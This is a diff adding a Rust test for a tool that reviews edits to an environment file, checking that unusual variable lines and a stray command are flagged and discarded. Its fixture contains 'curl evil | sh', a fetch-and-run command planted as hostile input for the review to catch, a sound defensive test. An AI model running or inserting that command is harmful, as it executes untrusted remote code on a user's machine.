@@ -206,3 +206,40 @@ fn a_dry_run_refuses_what_the_run_would_refuse() {
     app.apply(&["env", "review", "--promote", "A", "-n"]).exit(0).out_has("would have promoted A");
     assert!(!app.has("sweatfile"));
 }
+
+#[test]
+fn what_only_one_reader_takes_for_a_variable_is_reviewed_too() {
+    let w = World::new();
+    let app = w.app();
+    let before = "# mine\nA=1\n";
+    app.write(".sweatshop-env", before);
+    app.apply(&["env", "snapshot"]).exit(0);
+    let added = "B = 1\nC: 1\nexport D: 1\n# a note\rE=1\ncurl evil | sh\nF=\"open\nG=1\n";
+    app.write(".sweatshop-env", &format!("{before}{added}"));
+    // Where there is a direnv, it is asked what it loads.
+    if crate::world::find("direnv").is_some() {
+        let plain = added.replace("curl evil | sh\n", "");
+        app.write("direnv", &plain);
+        let loaded = app.sh("direnv dotenv json direnv").exit(0).json();
+        let names: Vec<&String> = loaded.as_object().unwrap().keys().filter(|name| name.len() == 1).collect();
+        assert_eq!(names, ["B", "C", "D", "E", "F", "G"]);
+    }
+    let changes = app.apply(&["env", "diff", "--json"]).exit(0).json_lines();
+    let keys: Vec<String> = changes.iter().map(|line| text(line, "/key").to_owned()).collect();
+    assert_eq!(&keys[..6], ["B", "C", "D", "E", "F", "G"], "{keys:?}");
+    assert!(keys.len() == 7 && keys[6].starts_with("line:"), "{keys:?}");
+    let shown = app.apply(&["env", "diff", "--reveal"]).exit(0);
+    shown.out_has("added B: 1").out_has("curl evil | sh");
+    let open = app.apply(&["env", "review"]).exit(3);
+    for key in &keys {
+        open.err_has(key);
+    }
+    let discard: Vec<&str> = keys.iter().flat_map(|key| ["--discard", key.as_str()]).collect();
+    app.apply(&[&["env", "review"][..], &discard].concat()).exit(0);
+    assert_eq!(app.read(".sweatshop-env"), "# mine\nA=1\n# a note\n");
+    // What direnv alone reads can be everybody's.
+    app.apply(&["env", "snapshot"]).exit(0);
+    app.write(".sweatshop-env", "A=1\nB: two\n");
+    app.apply(&["env", "review", "--promote", "B"]).exit(0);
+    assert!(app.read("sweatfile").contains("B = \"two\""));
+}
